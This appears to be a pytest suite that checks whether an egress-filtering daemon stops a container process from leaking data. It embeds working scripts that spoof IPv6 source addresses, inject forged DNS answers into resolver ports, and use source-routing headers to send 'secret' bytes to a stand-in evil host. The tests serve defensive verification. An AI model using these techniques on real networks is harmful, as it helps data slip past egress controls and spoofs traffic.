"""What a process that knows the source tries: it is let out no further than any other."""

import json
import socket

import pytest

from lab import dns_zone
from lab.lab import ALLOWED, ALLOWED_V4, ALLOWED_V6, EVIL, EVIL_V4, EVIL_V6, UPSTREAM_V6
from lab.waiting import wait_until

# Any process may send over IPv6 from an address that is not ours: no privilege is asked for.
FORGER = """
import json, socket, struct, sys, time
IPV6_FREEBIND = 78
request = json.loads(sys.argv[1])

def forging(kind, source):
    forger = socket.socket(socket.AF_INET6, kind)
    forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    forger.settimeout(0.3)
    forger.bind(tuple(source))
    return forger

def send(source, destination, payload):
    forging(socket.SOCK_DGRAM, source).sendto(bytes.fromhex(payload), tuple(destination))

def connect(source, destination):
    forging(socket.SOCK_STREAM, source).connect(tuple(destination))

def serve(source, own, payload):
    server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    server.settimeout(2)
    server.bind((own, 7777))
    send(source, (own, 7777), "00")
    _, client = server.recvfrom(100)
    server.sendto(bytes.fromhex(payload), client)

def answer(source, own, uid):
    ports = []
    while not ports:  # none is under way just now: it is asked again
        ports = [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/udp6")
                 if line.split()[2].endswith(":0035") and line.split()[7] == uid]
    forger = forging(socket.SOCK_DGRAM, source)
    for port in ports:
        forger.sendto(b"x" * 40, (own, port))

try:
    globals()[request.pop("do")](**request)
    print("ok")
except OSError as error:
    print(type(error).__name__, error)
"""


def forge(container, do, **arguments):
    return container.run(["/usr/bin/python3", "-I", "-c", FORGER,
                          json.dumps({"do": do, **arguments})], uid=1000).stdout.strip()


def own_address(container):
    listed = json.loads(container.run(["ip", "-6", "-j", "addr", "show", "dev", "eth0", "scope",
                                       "global"]).stdout)
    return listed[0]["addr_info"][0]["local"]


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return (b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1").hex()


FORGED = (EVIL_V6, 9999)
WAYS = {
    "a server in here answers": lambda own: dict(
        do="serve", source=FORGED, own=own, payload=b"secret".hex()),
    "the gate answers": lambda own: dict(
        do="send", source=FORGED, destination=("2001:db8:1::1", 53), payload=question(EVIL)),
    "the kernel says that nobody listens": lambda own: dict(
        do="send", source=FORGED, destination=(own, 4444), payload=b"secret".hex()),
    "the kernel resets": lambda own: dict(
        do="connect", source=(EVIL_V6, 443), destination=(own, 4444)),
    "a TCP server of egressd answers": lambda own: dict(
        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:1::1", 53)),
    "the table refuses by reset": lambda own: dict(
        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:1::1", 443)),
    "the table refuses by ICMP": lambda own: dict(
        do="send", source=FORGED, destination=("2001:db8:1::1", 443), payload=b"secret".hex()),
    "a denied address": lambda own: dict(
        do="connect", source=(EVIL_V6, 443), destination=("2001:db8:dead::1", 443)),
}


@pytest.mark.leak("H28", "L1")
def test_an_answer_does_not_leave_for_a_forged_address(lab, container):
    """Whatever answers in here would otherwise carry bytes to any host, as part of a flow."""
    own = own_address(container)
    lab.prove_open(lambda: forge(container, **WAYS["a server in here answers"](own)) == "ok",
                   destination=EVIL_V6)
    egressd = lab.egressd(allow=[ALLOWED], deny=["2001:db8:dead::/48"])
    lab.forget()
    for way in WAYS.values():
        forge(container, **way(own))
    assert container.connect(ALLOWED_V6, 443)
    assert not lab.witness.packets(destination=EVIL_V6)
    assert egressd.status()


# Any process may also wish that its packets take a way of its own choosing, by an allowed host.
ROUTED = """
import socket, sys
hop, address, when = sys.argv[1:]
v6 = ":" in hop
packed = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, hop)
end = socket.inet_pton(socket.AF_INET6 if v6 else socket.AF_INET, address)
if v6:  # a segment routing header: the last stop comes first, and is filled in by the kernel
    option = (socket.IPPROTO_IPV6, 57,
              bytes([0, 6, 4, 2, 2, 0, 0, 0]) + bytes(16) + end + packed)
else:  # a loose source route
    option = (socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 11, 4]) + packed + end + b"\\0")
client = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET)
client.settimeout(3)
try:
    if when == "late":
        client.connect((hop, 443))
        client.setsockopt(*option)
        client.send(b"secret")
    else:
        client.setsockopt(*option)
        client.connect((address, 443))
except OSError:
    pass
"""


@pytest.mark.leak("H33")
@pytest.mark.parametrize("when", ["early", "late"])
@pytest.mark.parametrize("hop, address, uid", [
    (ALLOWED_V4, EVIL_V4, None), (ALLOWED_V6, EVIL_V6, 1000)], ids=["ipv4", "ipv6"])
def test_an_allowed_host_is_not_asked_to_pass_it_on(lab, container, hop, address, uid, when):
    """Newer kernels let only root do so over IPv4."""
    def routed():
        """Packets that arrived and carry a route, which the witness takes for something else."""
        lab.forget()
        container.run(["/usr/bin/python3", "-I", "-c", ROUTED, hop, address, when], uid=uid)
        route = socket.inet_pton(socket.AF_INET6 if ":" in hop else socket.AF_INET, address)
        return [frame for frame in lab.witness.frames() if route in frame]

    assert routed()
    lab.egressd(allow=[ALLOWED]).wait_leased(ALLOWED_V4, ALLOWED_V6)
    assert not routed()
    assert container.connect(hop, 443)


JOIN = """
import socket
four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
four.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                socket.inet_aton("239.1.2.3") + bytes(4))
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
               socket.inet_pton(socket.AF_INET6, "ff05::5ec:2e7") + bytes(4))
"""


@pytest.mark.leak("H33")
def test_joining_a_group_is_told_to_the_link_at_most(lab, container):
    """Documented: the kernel reports IPv6 groups, whose addresses anybody chooses, to ff02::16. No
    router passes that on, but who listens on the same link can read it."""
    def told(group):
        lab.forget()
        container.run(["/usr/bin/python3", "-I", "-c", JOIN], uid=1000)
        wait_until(lambda: any(six in frame for frame in lab.witness.frames()), "a report")
        return [frame for frame in lab.witness.frames() if group in frame]

    four, six = socket.inet_aton("239.1.2.3"), socket.inet_pton(socket.AF_INET6, "ff05::5ec:2e7")
    all_routers = socket.inet_pton(socket.AF_INET6, "ff02::16")
    wait_until(lambda: told(four), "a report of IPv4 as well")
    lab.egressd(allow=[ALLOWED])
    assert not told(four)
    for frame in told(six):
        hop_limit, destination = frame[21], frame[38:54]
        assert (hop_limit, destination) == (1, all_routers)


@pytest.mark.leak("H27")
def test_nobody_in_here_answers_for_an_upstream(lab, container, zone):
    zone.twist("slow.test", dns_zone.silence)
    egressd = lab.egressd(allow=["slow.test"], upstream=UPSTREAM_V6)
    asker = container.agent(another="asker")
    asker.begin("resolve", name="slow.test", family=6)
    wait_until(lambda: lab.dns.questions("slow.test"), "question")
    forge(container, "answer", source=(UPSTREAM_V6, 53), own=own_address(container), uid="65053")
    assert egressd.status()["counters"]["upstream_mismatches"] == 0
    asker.finish()


@pytest.mark.leak("H28")
def test_answers_within_the_container_still_come(lab, container):
    """The same rules must not touch services in here, at whichever of its own addresses."""
    server = """
import socket
for family, address in ((2, "127.0.0.1"), (10, "::1"), (10, %r)):
    tcp = socket.create_server((address, 7000), family=family)
    udp = socket.socket(family, socket.SOCK_DGRAM); udp.bind((address, 7000))
    one = socket.create_connection((address, 7000), 60); two, _ = tcp.accept()
    two.sendall(b"tcp"); assert one.recv(3) == b"tcp"
    client = socket.socket(family, socket.SOCK_DGRAM); client.settimeout(60)
    client.sendto(b"?", (address, 7000)); _, peer = udp.recvfrom(1)
    udp.sendto(b"udp", peer); assert client.recv(3) == b"udp"
    tcp.close(); udp.close()
""" % own_address(container)
    lab.egressd(allow=[ALLOWED])
    container.run(["/usr/bin/python3", "-I", "-c", server], uid=1000)
    assert container.connect(EVIL_V4, 443).error == "ECONNREFUSED"
    assert container.connect(EVIL_V6, 443).error == "ECONNREFUSED"
